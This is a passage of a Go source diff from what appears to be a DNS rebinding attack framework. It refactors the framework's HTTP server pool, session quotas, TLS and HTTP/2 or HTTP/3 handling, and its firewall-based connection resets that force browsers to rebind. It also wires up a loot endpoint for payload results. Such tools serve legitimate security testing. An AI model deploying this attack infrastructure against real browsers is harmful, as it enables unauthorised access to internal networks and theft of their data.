-			http.Error(w, emptyResponseStr, 400)
+		port, err := strconv.Atoi(serverInfo.Port)
+		if err != nil {
+			writeServerError(w, 400, "bad_port", fmt.Sprintf("invalid port %q", serverInfo.Port))
+			return
+		}
+
+		scheme, ok := hss.stopServer(port, hss.requestOperator(r))
+		if !ok {
+			writeServerError(w, http.StatusNotFound, "server_not_found", fmt.Sprintf("no HTTP server on port %v", port))
 			return
 		}
+		serverInfo.Scheme = scheme
 
 		s, err := json.Marshal(serverInfo)
 		if err != nil {
-			http.Error(w, emptyResponseStr, 400)
+			writeServerError(w, 400, "internal_error", err.Error())
 			return
 		}
 
 		fmt.Fprintf(w, "%v", string(s))
 
 	default:
-		http.Error(w, emptyResponseStr, 400)
+		writeServerError(w, 400, "bad_method", fmt.Sprintf("unsupported method %v", r.Method))
+		return
+	}
+
+}
+
+// serversConfig describes the static servers and the dynamic servers managed by op
+func (hss *HTTPServerStoreHandler) serversConfig(op *Operator) HTTPServersConfig {
+	serverInfos := make([]httpServerInfo, 0)
+
+	hss.RLock()
+	for _, server := range hss.StaticServers {
+		if server != nil {
+			staticServerInfo := httpServerInfo{}
+			staticServerInfo.Port = strings.Split(server.Addr, ":")[1]
+			staticServerInfo.Scheme = hss.serverScheme(server)
+			serverInfos = append(serverInfos, staticServerInfo)
+		}
+	}
+	for _, server := range hss.DynamicServers {
+		if server != nil && op.ownsServer(hss, server) {
+			dynamicServerInfo := httpServerInfo{}
+			dynamicServerInfo.Port = strings.Split(server.Addr, ":")[1]
+			dynamicServerInfo.Scheme = hss.serverScheme(server)
+			if owner := hss.dynamicOwners[server]; owner != anonymousDynamicServerOwner {
+				dynamicServerInfo.Session = owner
+			}
+			serverInfos = append(serverInfos, dynamicServerInfo)
+		}
+	}
+	hss.RUnlock()
+
+	config := HTTPServersConfig{ServerInformation: serverInfos,
+		AllowDynamicHTTPServers: hss.AllowDynamicHTTPServers}
+	if hss.AppConfig != nil {
+		config.PayloadPath = hss.appConfig().payloadPath()
+	}
+	return config
+}
+
+// stopServer stops the server on port if op may manage it
+// and returns its scheme, false if there is none
+func (hss *HTTPServerStoreHandler) stopServer(port int, op *Operator) (string, bool) {
+	hss.Lock()
+	defer hss.Unlock()
+	var server *http.Server
+	if op.ownsServer(hss, hss.dynamicServer(port)) {
+		server = hss.removeServer(port)
+	}
+	if server == nil {
+		return "", false
+	}
+	scheme := hss.serverScheme(server)
+	StopHTTPServer(server, hss)
+	return scheme, true
+}
+
+const defaultMaxRequestBodyBytes = 5000
+
+var errRequestBodyTooLarge = errors.New("request body too large")
+
+// readRequestBody reads a request body of at most AppConfig.MaxRequestBodyBytes
+// and returns errRequestBodyTooLarge if it is larger.
+func (hss *HTTPServerStoreHandler) readRequestBody(r *http.Request) ([]byte, error) {
+	maxBytes := defaultMaxRequestBodyBytes
+	if configured := hss.appConfig().MaxRequestBodyBytes; configured > 0 {
+		maxBytes = configured
+	}
+
+	body, err := ioutil.ReadAll(io.LimitReader(r.Body, int64(maxBytes)+1))
+	if err != nil {
+		return nil, err
+	}
+	if len(body) > maxBytes {
+		return nil, errRequestBodyTooLarge
+	}
+	return body, nil
+}
+
+// portConflict checks whether a dynamic HTTP server on port would collide
+// with the DNS server, the static HTTP servers or the proxy server.
+// Must hold hss mutex.
+func (hss *HTTPServerStoreHandler) portConflict(port int) error {
+	dnsServerPort := defaultDNSServerPort
+	if configured := hss.appConfig().DNSServerPort; configured != 0 {
+		dnsServerPort = configured
+	}
+	if port == dnsServerPort {
+		return fmt.Errorf("port %v is used by the DNS server", port)
+	}
+
+	if port == hss.WsHTTPProxyServerPort {
+		return fmt.Errorf("port %v is used by the proxy server", port)
+	}
+
+	addr := ":" + strconv.Itoa(port)
+	for _, server := range hss.StaticServers {
+		if server != nil && server.Addr == addr {
+			return fmt.Errorf("port %v is used by a static HTTP server", port)
+		}
+	}
+	return nil
+}
+
+// dynamicPoolSize returns the maximum number of dynamic servers running at once
+func (hss *HTTPServerStoreHandler) dynamicPoolSize() int {
+	poolSize := hss.appConfig().DynamicHTTPServersPoolSize
+	if poolSize < 1 {
+		return 1
+	}
+	return poolSize
+}
+
+// dynamicPortAllowed checks whether a dynamic server may listen on port
+func (hss *HTTPServerStoreHandler) dynamicPortAllowed(port int) bool {
+	ports := hss.appConfig().DynamicHTTPServerPorts
+	if len(ports) == 0 {
+		return validPort(port)
+	}
+	for _, p := range ports {
+		if p == port {
+			return true
+		}
+	}
+	return false
+}
+
+// freeDynamicPort returns the first port of AppConfig.DynamicHTTPServerPorts
+// not used by a server.
+// Must hold hss mutex.
+func (hss *HTTPServerStoreHandler) freeDynamicPort() (int, error) {
+	for _, port := range hss.appConfig().DynamicHTTPServerPorts {
+		if hss.portConflict(port) == nil && hss.dynamicServer(port) == nil {
+			return port, nil
+		}
+	}
+	return 0, errors.New("all dynamic HTTP server ports are in use")
+}
+
+// Dynamic HTTP server requests exceeding quotas
+var (
+	errSessionQuotaExceeded  = errors.New("too many dynamic HTTP servers for this session")
+	errDynamicPoolFull       = errors.New("all dynamic HTTP servers are used by other sessions")
+	errDynamicPortOwned      = errors.New("port is used by a dynamic HTTP server of another session")
+	errOperatorQuotaExceeded = errors.New("too many dynamic HTTP servers for this operator")
+)
+
+// evictDynamicServers makes room for a dynamic server on port requested by session,
+// empty for privileged requests without DNS session, and by op, nil for the administrator.
+// It removes from the store the dynamic server listening on port
+// and, if the pool is still full, the oldest dynamic server.
+// Servers of other sessions, including anonymousDynamicServerOwner, are only removed
+// for privileged requests without session and servers of other operators are only removed
+// for the administrator.
+// The removed servers are returned to be stopped, nil if none.
+// Must hold hss mutex.
+func (hss *HTTPServerStoreHandler) evictDynamicServers(port int, session string,
+	op *Operator) (replaced *http.Server, oldest *http.Server, err error) {
+	addr := ":" + strconv.Itoa(port)
+	evictable := func(server *http.Server) bool {
+		owner := hss.dynamicOwners[server]
+		if operator := hss.dynamicOperators[server]; op != nil && operator != "" && operator != op.Name {
+			return false
+		}
+		return session == "" || owner == "" || owner == session
+	}
+
+	replacedIndex := -1
+	running := 0
+	owned := 0
+	operatorOwned := 0
+	oldestIndex := -1
+	for i, server := range hss.DynamicServers {
+		if server == nil {
+			continue
+		}
+		if server.Addr == addr {
+			if !evictable(server) {
+				return nil, nil, errDynamicPortOwned
+			}
+			replacedIndex = i
+			continue
+		}
+		running++
+		if session != "" && hss.dynamicOwners[server] == session {
+			owned++
+		}
+		if op != nil && hss.dynamicOperators[server] == op.Name {
+			operatorOwned++
+		}
+		if evictable(server) && (oldestIndex == -1 ||
+			hss.dynamicStarted[server].Before(hss.dynamicStarted[hss.DynamicServers[oldestIndex]])) {
+			oldestIndex = i
+		}
+	}
+
+	quota := hss.appConfig().DynamicHTTPServersPerSession
+	if session != "" && quota > 0 && owned >= quota {
+		return nil, nil, errSessionQuotaExceeded
+	}
+	if op != nil && op.MaxDynamicHTTPServers > 0 && operatorOwned >= op.MaxDynamicHTTPServers {
+		return nil, nil, errOperatorQuotaExceeded
+	}
+	full := running >= hss.dynamicPoolSize()
+	if full && oldestIndex == -1 {
+		return nil, nil, errDynamicPoolFull
+	}
+
+	if replacedIndex != -1 {
+		replaced = hss.DynamicServers[replacedIndex]
+		hss.DynamicServers[replacedIndex] = nil
+	}
+	if full {
+		oldest = hss.DynamicServers[oldestIndex]
+		logEvent(LogInfo, "HTTP", LogFields{"addr": oldest.Addr},
+			"dynamic HTTP server pool is full, stopping oldest server on %v", oldest.Addr)
+		hss.DynamicServers[oldestIndex] = nil
+	}
+	return replaced, oldest, nil
+}
+
+// requestSession returns the DNS session key of the origin a request is sent from,
+// or an empty string if it is not from a Singularity DNS name,
+// e.g. from the manager interface.
+func (hss *HTTPServerStoreHandler) requestSession(r *http.Request) string {
+	name, err := NewDNSQueryFromHost(r.Host)
+	if err != nil {
+		if name, err = NewDNSQueryFromOrigin(r.Header.Get("Origin")); err != nil {
+			return ""
+		}
+	}
+	return sessionKey(hss.appConfig().SessionKeyFn, name, httpRemoteAddr(r))
+}
+
+// sessionExists checks whether a DNS session is known
+func (hss *HTTPServerStoreHandler) sessionExists(session string) bool {
+	if hss.Dcss == nil {
+		return false
+	}
+	hss.Dcss.RLock()
+	defer hss.Dcss.RUnlock()
+	_, ok := hss.Dcss.Sessions[session]
+	return ok
+}
+
+// StopExpiredDynamicServers stops the dynamic servers owned by DNS sessions
+// which expired or were evicted.
+func (hss *HTTPServerStoreHandler) StopExpiredDynamicServers() {
+	// DNS sessions are looked up without holding hss mutex
+	hss.RLock()
+	owners := make(map[*http.Server]string)
+	for _, server := range hss.DynamicServers {
+		if owner := hss.dynamicOwners[server]; server != nil && owner != "" && owner != anonymousDynamicServerOwner {
+			owners[server] = owner
+		}
+	}
+	hss.RUnlock()
+
+	expired := make(map[*http.Server]bool)
+	for server, owner := range owners {
+		if !hss.sessionExists(owner) {
+			expired[server] = true
+		}
+	}
+	if len(expired) == 0 {
 		return
 	}
 
+	hss.Lock()
+	for i, server := range hss.DynamicServers {
+		if expired[server] {
+			logEvent(LogInfo, "HTTP", LogFields{"session": owners[server], "addr": server.Addr},
+				"session %v expired, stopping its dynamic HTTP server on %v", owners[server], server.Addr)
+			hss.DynamicServers[i] = nil
+			StopHTTPServer(server, hss)
+		}
+	}
+	hss.Unlock()
+}
+
+// dynamicServer returns the dynamic server listening on port, if any.
+// Must hold hss mutex.
+func (hss *HTTPServerStoreHandler) dynamicServer(port int) *http.Server {
+	addr := ":" + strconv.Itoa(port)
+	for _, server := range hss.DynamicServers {
+		if server != nil && server.Addr == addr {
+			return server
+		}
+	}
+	return nil
+}
+
+// removeServer removes the static or dynamic server listening on port
+// from the store and returns it, or nil if there is none.
+// Must hold hss mutex.
+func (hss *HTTPServerStoreHandler) removeServer(port int) *http.Server {
+	addr := ":" + strconv.Itoa(port)
+
+	for i, server := range hss.DynamicServers {
+		if server != nil && server.Addr == addr {
+			hss.DynamicServers[i] = nil
+			return server
+		}
+	}
+
+	for i, server := range hss.StaticServers {
+		if server != nil && server.Addr == addr {
+			hss.StaticServers = append(hss.StaticServers[:i], hss.StaticServers[i+1:]...)
+			return server
+		}
+	}
+
+	return nil
+}
+
+// report logs the outcome of a firewall rule change
+// and sends it to Results without blocking.
+func (ipt *IPTablesHandler) report(result FirewallRuleResult) {
+	if result.Err != nil {
+		logEvent(LogError, "HTTP", LogFields{"client_ip": result.SrcAddr},
+			"could not %v firewall rule for %v: %v", result.Action, result.SrcAddr, result.Err)
+	}
+	if ipt.Results == nil {
+		return
+	}
+	select {
+	case ipt.Results <- result:
+	default:
+		logEvent(LogWarn, "HTTP", LogFields{"client_ip": result.SrcAddr}, "dropped firewall rule result for %v", result.SrcAddr)
+	}
 }
 
 func (ipt *IPTablesHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
-	log.Printf("HTTP: %v %v from %v", r.Method, r.RequestURI, r.RemoteAddr)
+	logHTTPRequest(r)
 
 	hj, ok := w.(http.Hijacker)
 	if !ok {
-		log.Printf("HTTP: webserver doesn't support hijacking\n")
+		logEvent(LogError, "HTTP", httpRequestFields(r), "webserver doesn't support hijacking")
 		return
 	}
 	conn, bufrw, err := hj.Hijack()
 	if err != nil {
-		log.Printf("HTTP: could not hijack http server connection: %v\n", err.Error())
+		logEvent(LogError, "HTTP", httpRequestFields(r), "could not hijack http server connection: %v", err)
 		return
 	}
 
 	defer conn.Close()
 
-	log.Printf("HTTP: implementing firewall rule for %v\n", conn.RemoteAddr())
-	dst := strings.Split(conn.LocalAddr().String(), ":")
-	src := strings.Split(conn.RemoteAddr().String(), ":")
-	srcAddr := src[0]
-	srcPort := src[1]
-	dstAddr := dst[0]
-	dstPort := dst[1]
+	// do not let slow clients hold on to the hijacked connection
+	conn.SetDeadline(time.Now().Add(hijackedConnTimeout))
+
+	// firewalls do not accept the zone of IPv6 link-local addresses, e.g. "fe80::1%eth0"
+	srcAddr, srcPort, err := net.SplitHostPort(conn.RemoteAddr().String())
+	srcAddr = strings.SplitN(srcAddr, "%", 2)[0]
+	if err != nil || net.ParseIP(srcAddr) == nil {
+		logEvent(LogError, "HTTP", httpRequestFields(r), "could not parse remote address %v: %v", conn.RemoteAddr(), err)
+		return
+	}
+	dstAddr, dstPort, err := net.SplitHostPort(conn.LocalAddr().String())
+	dstAddr = strings.SplitN(dstAddr, "%", 2)[0]
+	if err != nil || net.ParseIP(dstAddr) == nil {
+		logEvent(LogError, "HTTP", httpRequestFields(r), "could not parse local address %v: %v", conn.LocalAddr(), err)
+		return
+	}
+
+	logEvent(LogInfo, "HTTP", httpRequestFields(r), "implementing firewall rule for %v", conn.RemoteAddr())
 
-	ipTablesRule := NewIPTableRule(srcAddr, srcPort, dstAddr, dstPort)
-	go func(rule *IPTablesRule) {
-		time.Sleep(time.Second * time.Duration(5))
-		ipTablesRule.RemoveRule()
-	}(ipTablesRule)
+	duration, srcPortRange := ipt.ruleOptions(r)
+	firewallRule, err := NewFirewallRule(ipt.FirewallBackend, ipt.FirewallDryRun, srcAddr, srcPort, srcPortRange,
+		dstAddr, dstPort)
+	if err != nil {
+		logEvent(LogError, "HTTP", httpRequestFields(r), "could not create firewall rule: %v", err)
+		return
+	}
 
-	ipTablesRule.AddRule()
+	result := FirewallRuleResult{Action: "add", SrcAddr: srcAddr, DstAddr: dstAddr, DstPort: dstPort}
+	result.Err = firewallRule.AddRule()
+	ipt.report(result)
+	if result.Err == nil && ipt.Notify != nil {
+		event := &RebindingEvent{Event: webhookEventFirewall, ClientIP: srcAddr, Port: dstPort, Timestamp: time.Now()}
+		if name, err := NewDNSQueryFromHost(r.Host); err == nil {
+			event.Session = name.Session
+			event.Strategy = name.DNSRebindingStrategy
+		}
+		ipt.Notify(event)
+	}
+	if result.Err == nil {
+		go func(rule FirewallRule, duration time.Duration, result FirewallRuleResult) {
+			time.Sleep(duration)
+			result.Action = "remove"
+			result.Err = rule.RemoveRule()
+			ipt.report(result)
+		}(firewallRule, duration, result)
+	}
 
 	//Instead of writing the beginning of a valid HTTP response
 	// e.g. bufrw.WriteString("HTTP")
@@ -672,18 +2920,23 @@ func (ipt *IPTablesHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 
 // DelayDOMLoadHandler is a HTTP handler that forces browsers
 // to wait for more data thus delaying DOM load event.
-type DelayDOMLoadHandler struct{}
+// DelaySeconds defaults to 90 seconds when not set.
+type DelayDOMLoadHandler struct {
+	DelaySeconds int
+}
+
+const defaultDelayDOMLoadSeconds = 90
 
 func (h *DelayDOMLoadHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
-	log.Printf("HTTP: %v %v from %v", r.Method, r.RequestURI, r.RemoteAddr)
+	logHTTPRequest(r)
 	hj, ok := w.(http.Hijacker)
 	if !ok {
-		log.Printf("HTTP: webserver doesn't support hijacking\n")
+		logEvent(LogError, "HTTP", httpRequestFields(r), "webserver doesn't support hijacking")
 		return
 	}
 	conn, bufrw, err := hj.Hijack()
 	if err != nil {
-		log.Printf("HTTP: could not hijack http server connection: %v\n", err.Error())
+		logEvent(LogError, "HTTP", httpRequestFields(r), "could not hijack http server connection: %v", err)
 		return
 	}
 
@@ -693,19 +2946,49 @@ func (h *DelayDOMLoadHandler) ServeHTTP(w http.ResponseWriter, r *http.Request)
 		"Cache-Control: no-cache, no-store, must-revalidate\r\nContent-Length: 4\r\nContent-Type: text/html\r\n" +
 		"Expires: 0\r\nPragma: no-cache\r\nX-Dns-Prefetch-Control: off\r\nConnection: close\r\n\r\n<ht")
 	bufrw.Flush()
-	time.Sleep(90 * time.Second)
+
+	// Hijacked connections are not monitored by the HTTP server anymore
+	// so we detect client disconnections ourselves to exit early.
+	clientGone := make(chan struct{})
+	go func() {
+		io.Copy(ioutil.Discard, conn)
+		close(clientGone)
+	}()
+
+	delaySeconds := h.DelaySeconds
+	if delaySeconds <= 0 {
+		delaySeconds = defaultDelayDOMLoadSeconds
+	}
+
+	delay := time.NewTimer(time.Duration(delaySeconds) * time.Second)
+	defer delay.Stop()
+
+	select {
+	case <-delay.C:
+	case <-clientGone:
+	case <-r.Context().Done():
+	}
 }
 
 // NewHTTPServer configures a HTTP server
 func NewHTTPServer(port int, hss *HTTPServerStoreHandler, dcss *DNSClientStateStore,
 	wscss *WebsocketClientStateStore) *http.Server {
-	d := &DefaultHeadersHandler{NextHandler: http.FileServer(http.Dir("./html"))}
+	appConfig := hss.appConfig()
+	assets := NewAssetsFS(appConfig.HTMLDir)
+	d := &DefaultHeadersHandler{NextHandler: http.FileServer(http.FS(assets)),
+		ExtraHeaders: appConfig.CustomResponseHeaders}
 	hcih := &HTTPClientInfoHandler{}
-	pth := &PayloadTemplateHandler{}
-	dpth := &DefaultHeadersHandler{NextHandler: pth}
-	ipth := &IPTablesHandler{}
-	delayDOMLoadHandler := &DelayDOMLoadHandler{}
-	//websocketHandler := &WebsocketHandler{dcss: dcss, wscss: wscss}
+	pth := &PayloadTemplateHandler{Assets: assets, CacheSeconds: appConfig.PayloadCacheSeconds,
+		SessionPayloads: hss.SessionPayloads, SessionKeyFn: appConfig.SessionKeyFn, Watcher: hss.payloadWatcher(appConfig.HTMLDir)}
+	dpth := &DefaultHeadersHandler{NextHandler: pth, ExtraHeaders: appConfig.CustomResponseHeaders}
+	ipth := &IPTablesHandler{RuleDurationSeconds: appConfig.FirewallRuleDurationSeconds,
+		FirewallBackend: appConfig.FirewallBackend, FirewallDryRun: appConfig.FirewallDryRun,
+		Results: hss.Firewallc, SourcePortRange: appConfig.FirewallSourcePortRange,
+		Notify: hss.AppConfig.notifyWebhook}
+	delayDOMLoadHandler := &DelayDOMLoadHandler{DelaySeconds: appConfig.DelayDOMLoadSeconds}
+	healthHandler := &HealthHandler{hss: hss}
+	websocketHandler := &WebsocketHandler{dcss: dcss, wscss: wscss, notify: hss.AppConfig.notifyWebhook,
+		sessionKeyFn: appConfig.SessionKeyFn}
 
 	h := http.NewServeMux()
 
@@ -717,31 +3000,35 @@ func NewHTTPServer(port int, hss *HTTPServerStoreHandler, dcss *DNSClientStateSt
 		// Then we create a Linux iptables rule that drops the connection from the browser
 		// using an unsolicited TCP RST packet.
 		// The connection being dropped is defined by the source address,
-		// source port range(current port + 10) and the server address and port.
-		// The rule is removed after 10 seconds after being implemented.
+		// source port range (current port + FirewallSourcePortRange, all ports by default)
+		// and the server address and port.
+		// The rule is removed after FirewallRuleDurationSeconds (10 seconds by default).
 		// In the singularity manager interface,
 		// we need to ensure that the polling interval is fast, e.g. 1 sec.
 
-		log.Printf("HTTP: %v %v from %v", req.Method, req.RequestURI, req.RemoteAddr)
+		logHTTPRequest(req)
 
-		name, err := NewDNSQuery(req.Host)
+		name, err := NewDNSQueryFromHost(req.Host)
 		if err == nil {
 
+			session := sessionKey(appConfig.SessionKeyFn, name, httpRemoteAddr(req))
 			dcss.RLock()
-			_, keyExists := dcss.Sessions[name.Session]
-			log.Printf("HTTP: matching DNS session exists: %v\n", keyExists)
+			_, keyExists := dcss.Sessions[session]
+			logEvent(LogDebug, "HTTP", httpRequestFields(req), "matching DNS session exists: %v", keyExists)
 			dcss.RUnlock()
 
 			if keyExists == true {
 				dcss.RLock()
-				elapsed := time.Now().Sub(dcss.Sessions[name.Session].FirstQueryTime)
+				elapsed := time.Now().Sub(dcss.Sessions[session].FirstQueryTime)
 				dcss.RUnlock()
 
 				if name.DNSRebindingStrategy == "ma" {
 					if elapsed > (time.Second * time.Duration(3)) {
-						log.Printf("HTTP: attempting Multiple A records rebinding for: %v", name)
+						logEvent(LogInfo, "HTTP", httpRequestFields(req), "attempting Multiple A records rebinding for: %v", name)
 						dcss.Lock()
-						dcss.Sessions[name.Session].FirewalledOnce = true
+						if state := dcss.Sessions[session]; state != nil {
+							state.FirewalledOnce = true
+						}
 						dcss.Unlock()
 						ipth.ServeHTTP(w, req)
 						return
@@ -754,20 +3041,53 @@ func NewHTTPServer(port int, hss *HTTPServerStoreHandler, dcss *DNSClientStateSt
 	})
 
 	h.Handle("/clientinfo", hcih)
-	h.Handle("/soopayload.html", dpth)
-	h.Handle("/servers", hss)
+	h.Handle(appConfig.payloadPath(), dpth)
 	h.Handle("/delaydomload", delayDOMLoadHandler)
-	//h.Handle("/soows", websocketHandler)
+	h.Handle("/healthz", healthHandler)
+	h.Handle("/rebind", &RebindHandler{dcss: dcss, sessionKeyFn: appConfig.SessionKeyFn})
+	if appConfig.AdminAddr == "" {
+		handleAdminRoutes(h, hss)
+	} else {
+		// management endpoints are served by the admin server,
+		// payloads still post loot to the attack servers
+		h.Handle(lootAPIPath, &LootHandler{hss: hss, captureOnly: true})
+	}
+	if appConfig.ACMEChallengeDir != "" {
+		h.Handle(acmeHTTPChallengePath, &ACMEChallengeHandler{Dir: appConfig.ACMEChallengeDir})
+	}
+	if appConfig.EnableDNSOverHTTPS {
+		h.Handle(dohPath, &DNSOverHTTPSHandler{DNSHandler: MakeRebindDNSHandler(hss.AppConfig, dcss)})
+	}
+	h.Handle("/soows", websocketHandler)
+
+	ach := &AllowedClientsHandler{NextHandler: h, AllowedNets: appConfig.AllowHTTPClientsFrom}
 
-	httpServer := &http.Server{Addr: ":" + strconv.Itoa(port), Handler: h}
+	httpServer := &http.Server{Addr: ":" + strconv.Itoa(port), Handler: ach}
 
 	// drop browser connections after delivering
-	// so they dont keep socket alive and facilitate rebinding.
-	httpServer.SetKeepAlivesEnabled(false)
+	// so they dont keep socket alive and facilitate rebinding,
+	// unless keep-alives are enabled for this port.
+	keepAlive := false
+	for _, keepAlivePort := range appConfig.KeepAliveHTTPServerPorts {
+		if keepAlivePort == port {
+			keepAlive = true
+		}
+	}
+	httpServer.SetKeepAlivesEnabled(keepAlive)
+
+	// HTTP/2 and HTTP/3 connections cannot be dropped after each response
+	// since requests are multiplexed, so they are closed once idle instead.
+	if (appConfig.EnableHTTP2 || appConfig.EnableHTTP3) && !keepAlive {
+		httpServer.IdleTimeout = http2RebindingIdleTimeout
+	}
 
 	return httpServer
 }
 
+// http2RebindingIdleTimeout is how long idle HTTP/2 and HTTP/3 connections are kept,
+// shorter than rebinding so that browsers connect again to the rebound address.
+const http2RebindingIdleTimeout = time.Second
+
 // HTTPServerError is used to report issues with an HTTP instance
 // when started or closed
 type HTTPServerError struct {
@@ -775,20 +3095,27 @@ type HTTPServerError struct {
 	Port string
 }
 
-// Linux Transparent Proxy Support
-// https://www.kernel.org/doc/Documentation/networking/tproxy.txt
-// e.g. `sudo iptables -t mangle -I PREROUTING -d ext_ip_address
-// -p tcp --dport 8080 -j TPROXY --on-port=80 --on-ip=ext_ip_address
-// will redirect external port 8080 on port 80 of Singularity
-func useIPTransparent(network, address string, conn syscall.RawConn) error {
-	return conn.Control(func(descriptor uintptr) {
-		syscall.SetsockoptInt(int(descriptor), syscall.IPPROTO_IP, syscall.IP_TRANSPARENT, 1)
-	})
+// NewTLSConfig loads a certificate and its private key from PEM files
+// for use by HTTPS servers. The files are reloaded when they change,
+// e.g. when an ACME client renews the certificate.
+func NewTLSConfig(certFile string, keyFile string) (*tls.Config, error) {
+	cr, err := newCertReloader(certFile, keyFile)
+	if err != nil {
+		return nil, err
+	}
+	return &tls.Config{GetCertificate: cr.GetCertificate}, nil
 }
 
 // StartHTTPServer starts an HTTP server
 // and adds it to  dynamic (if dynamic is true) or static HTTP Store
+// The server is started with TLS if its TLSConfig is set.
 func StartHTTPServer(s *http.Server, hss *HTTPServerStoreHandler, dynamic bool, tproxy bool) error {
+	return startHTTPServer(s, hss, dynamic, tproxy, false)
+}
+
+// startHTTPServer is StartHTTPServer for dynamic servers
+// already in the pool of hss if reserved is true.
+func startHTTPServer(s *http.Server, hss *HTTPServerStoreHandler, dynamic bool, tproxy bool, reserved bool) error {
 
 	var err error
 	var l net.Listener
@@ -796,6 +3123,9 @@ func StartHTTPServer(s *http.Server, hss *HTTPServerStoreHandler, dynamic bool,
 	if tproxy == true {
 		listenConfig := &net.ListenConfig{Control: useIPTransparent}
 		l, err = listenConfig.Listen(context.Background(), "tcp", s.Addr)
+		if relayPorts := hss.appConfig().LinuxTProxyRelayPorts; err == nil && len(relayPorts) > 0 {
+			l = newTProxyRelayListener(l, relayPorts)
+		}
 	} else {
 		l, err = net.Listen("tcp", s.Addr)
 	}
@@ -803,8 +3133,43 @@ func StartHTTPServer(s *http.Server, hss *HTTPServerStoreHandler, dynamic bool,
 		return err
 	}
 
+	// net/http may set TLSConfig on plain HTTP servers once started
+	// so we record which servers use TLS beforehand.
+	useTLS := s.TLSConfig != nil
+	useHTTP2 := hss.appConfig().EnableHTTP2
+
+	// HTTPS servers negotiate HTTP/2 with ALPN, HTTP servers upgrade to h2c.
+	if useHTTP2 && !useTLS {
+		s.Handler = h2c.NewHandler(s.Handler, &http2.Server{IdleTimeout: s.IdleTimeout})
+	}
+
+	// HTTPS servers also serve HTTP/3 on the same UDP port if enabled.
+	var h3 *http3Server
+	if useTLS && hss.appConfig().EnableHTTP3 && !tproxy {
+		h3, err = newHTTP3Server(s)
+		if err != nil {
+			l.Close()
+			return err
+		}
+		s.Handler = &AltSvcHandler{h3: h3, NextHandler: s.Handler}
+	}
+
 	hss.Lock()
-	if dynamic == true {
+	if useTLS {
+		if hss.tlsServers == nil {
+			hss.tlsServers = make(map[*http.Server]bool)
+		}
+		hss.tlsServers[s] = true
+	}
+	if h3 != nil {
+		if hss.http3Servers == nil {
+			hss.http3Servers = make(map[*http.Server]*http3Server)
+		}
+		hss.http3Servers[s] = h3
+	}
+	if dynamic == false {
+		hss.StaticServers = append(hss.StaticServers, s)
+	} else if reserved == false {
 		found := false
 		for _, v := range hss.StaticServers {
 			if (v != nil) && (v.Addr == s.Addr) {
@@ -813,27 +3178,120 @@ func StartHTTPServer(s *http.Server, hss *HTTPServerStoreHandler, dynamic bool,
 			}
 		}
 		if found != true {
-			hss.DynamicServers[0] = s
+			hss.addDynamicServer(s)
 		}
-
-	} else {
-		hss.StaticServers = append(hss.StaticServers, s)
 	}
 
 	hss.Unlock()
 
 	go func() {
-		log.Printf("HTTP: starting HTTP Server on %v\n", s.Addr)
-		routineErr := s.Serve(l)
+		var routineErr error
+		if useTLS {
+			// HTTP/2 would keep connections alive across requests
+			// and interfere with rebinding, unless enabled.
+			if s.TLSNextProto == nil && !useHTTP2 {
+				s.TLSNextProto = make(map[string]func(*http.Server, *tls.Conn, http.Handler))
+			}
+			logEvent(LogInfo, "HTTP", LogFields{"addr": s.Addr}, "starting HTTPS Server on %v", s.Addr)
+			routineErr = s.ServeTLS(l, "", "")
+		} else {
+			logEvent(LogInfo, "HTTP", LogFields{"addr": s.Addr}, "starting HTTP Server on %v", s.Addr)
+			routineErr = s.Serve(l)
+		}
 		hss.Errc <- HTTPServerError{Err: routineErr, Port: s.Addr}
 	}()
 
+	if h3 != nil {
+		go func() {
+			logEvent(LogInfo, "HTTP", LogFields{"addr": s.Addr}, "starting HTTP/3 Server on %v", s.Addr)
+			routineErr := h3.Serve()
+			hss.Errc <- HTTPServerError{Err: fmt.Errorf("HTTP/3: %v", routineErr), Port: s.Addr}
+		}()
+	}
+
 	return err
 
 }
 
+// SetDNSServerRunning records whether the DNS server is serving queries
+func (hss *HTTPServerStoreHandler) SetDNSServerRunning(running bool) {
+	hss.Lock()
+	hss.DNSServerRunning = running
+	hss.Unlock()
+}
+
+// StartAllHTTPServers starts a static HTTP server on each port
+// (with TLS if tlsConfig is not nil), logging ports that fail.
+// It returns the number of servers started
+// and a combined error if none could be started.
+func StartAllHTTPServers(ports []int, hss *HTTPServerStoreHandler, dcss *DNSClientStateStore,
+	wscss *WebsocketClientStateStore, tlsConfig *tls.Config, tproxy bool) (started int, err error) {
+	var errs []string
+
+	for _, port := range ports {
+		httpServer := NewHTTPServer(port, hss, dcss, wscss)
+		httpServer.TLSConfig = tlsConfig
+		if err := StartHTTPServer(httpServer, hss, false, tproxy); err != nil {
+			logEvent(LogError, "HTTP", LogFields{"port": port}, "could not start server on port %v: %v", port, err)
+			errs = append(errs, err.Error())
+			continue
+		}
+		started++
+	}
+
+	if len(ports) > 0 && started == 0 {
+		return started, fmt.Errorf("could not start any HTTP server: %v", strings.Join(errs, "; "))
+	}
+
+	return started, nil
+}
+
 // StopHTTPServer stops an HTTP server
+// Must hold hss mutex.
 func StopHTTPServer(s *http.Server, hss *HTTPServerStoreHandler) {
-	log.Printf("HTTP: stopping HTTP Server on %v\n", s.Addr)
+	logEvent(LogInfo, "HTTP", LogFields{"addr": s.Addr}, "stopping HTTP Server on %v", s.Addr)
 	s.Close()
+	if h3 := hss.http3Servers[s]; h3 != nil {
+		h3.Close()
+		delete(hss.http3Servers, s)
+	}
+	delete(hss.tlsServers, s)
+	delete(hss.dynamicStarted, s)
+	delete(hss.dynamicOwners, s)
+	delete(hss.dynamicOperators, s)
+}
+
+// addDynamicServer stores a dynamic server in a free slot of the pool.
+// Must hold hss mutex.
+func (hss *HTTPServerStoreHandler) addDynamicServer(s *http.Server) {
+	if hss.dynamicStarted == nil {
+		hss.dynamicStarted = make(map[*http.Server]time.Time)
+	}
+	hss.dynamicStarted[s] = time.Now()
+	hss.restoreDynamicServer(s)
+}
+
+// releaseDynamicServer removes a dynamic server from the pool, e.g. a reservation
+// for a server which could not start.
+// Must hold hss mutex.
+func (hss *HTTPServerStoreHandler) releaseDynamicServer(s *http.Server) {
+	for i, server := range hss.DynamicServers {
+		if server == s {
+			hss.DynamicServers[i] = nil
+			return
+		}
+	}
+}
+
+// restoreDynamicServer stores a dynamic server evicted from the pool
+// in a free slot, keeping its start time.
+// Must hold hss mutex.
+func (hss *HTTPServerStoreHandler) restoreDynamicServer(s *http.Server) {
+	for i, server := range hss.DynamicServers {
+		if server == nil {
+			hss.DynamicServers[i] = s
+			return
+		}
+	}
